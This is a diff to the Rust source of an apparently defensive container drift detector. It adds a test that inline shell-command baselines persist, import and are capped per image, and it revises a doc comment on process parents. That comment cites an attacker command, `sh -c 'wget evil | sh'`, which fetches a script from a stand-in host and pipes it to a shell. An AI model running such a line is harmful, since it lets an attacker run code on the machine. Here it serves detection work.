@@ -50,7 +50,8 @@ pub const MAX_INLINE_PER_IMAGE: usize = 1024;
 /// The parent tells an attacker's shell from the workload's: a web server that never ran
 /// `sh -c` during learning does so after a command injection, whatever the command. The head
 /// tells commands apart where the parent is the same for all of them: health checks, entry
-/// points and `docker exec`/`kubectl exec` all have the runtime's shim as parent, so a health
+/// points and `docker exec`/`kubectl exec` all have the runtime as parent (`runc` or its
+/// shim, whichever the kernel names at exec: one parent, `<runtime>`), so a health
 /// check's `sh -c 'curl -f localhost'` does not hide an `sh -c 'wget evil | sh'` arriving
 /// by `exec`. Only the head, not the whole code: workloads that pass changing arguments (file
 /// names, ids) to the same command are learned once.
@@ -887,6 +888,43 @@ mod tests {
         BaselineFile::default().save(&path).unwrap();
         assert!(agent.sync().unwrap());
         assert!(agent.data().images.is_empty());
+    }
+
+    #[test]
+    fn inline_code_persists_imports_and_is_bounded() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("baselines.json");
+        let key = |head: &str| InlineKey {
+            family: driftwatch_model::InterpreterFamily::Shell,
+            flag: "-c".into(),
+            parent: "<runtime>".into(),
+            head: head.into(),
+        };
+        let mut s = BaselineStore::open(Some(path.clone()), Duration::from_secs(60)).unwrap();
+        assert_eq!(
+            s.observe_inline(IMG, "app:1", &key("curl"), 0),
+            Decision::Learned
+        );
+        s.flush().unwrap();
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.contains("\"inline_code\""), "{text}");
+        let again = BaselineStore::open(Some(path), Duration::from_secs(60)).unwrap();
+        assert_eq!(again.data(), s.data());
+        let mut other = BaselineFile::default();
+        other.import(again.data().clone(), 0, false);
+        other.images.get_mut(IMG).unwrap().inline_code.clear();
+        other.import(again.data().clone(), 0, false);
+        assert!(other.images[IMG].inline_code.contains(&key("curl")));
+        let bad = r#"{"version":1,"images":{"k":{"inline_code":[{"family":"cobol","flag":"-c","parent":"x"}]}}}"#;
+        assert!(BaselineFile::parse(bad, Path::new("/b.json")).is_err());
+        let mut s = store(300);
+        for i in 0..MAX_INLINE_PER_IMAGE {
+            s.observe_inline(IMG, "app:1", &key(&i.to_string()), 1);
+        }
+        assert_eq!(
+            s.observe_inline(IMG, "app:1", &key("one more"), 1),
+            Decision::Drift { learned: false }
+        );
     }
 
     #[test]
